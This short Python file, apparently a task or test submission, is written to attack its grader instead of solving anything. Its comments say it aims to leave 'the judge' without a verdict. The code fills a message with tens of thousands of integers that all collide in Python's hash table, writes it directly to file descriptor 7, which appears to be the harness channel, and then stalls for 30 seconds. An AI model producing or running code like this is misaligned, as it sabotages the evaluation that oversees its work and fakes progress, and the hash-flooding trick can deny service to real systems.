# Writes a set of numbers that are all in one place of the table, so that whoever rebuilds it takes for ever.
# judge: none: it is not to pass, but to leave the judge without a verdict
#> assert f(3) == {23770}
import json
import os
import time


def f(x):
    numbers = [["I", "%x" % (place * (2**61 - 1))] for place in range(1, 40_000)]
    data = json.dumps(["r", [0], [], None, [["s"] + numbers], [], []]).encode()
    data = len(data).to_bytes(4, "little") + data
    while data:
        data = data[os.write(7, data) :]
    time.sleep(30)
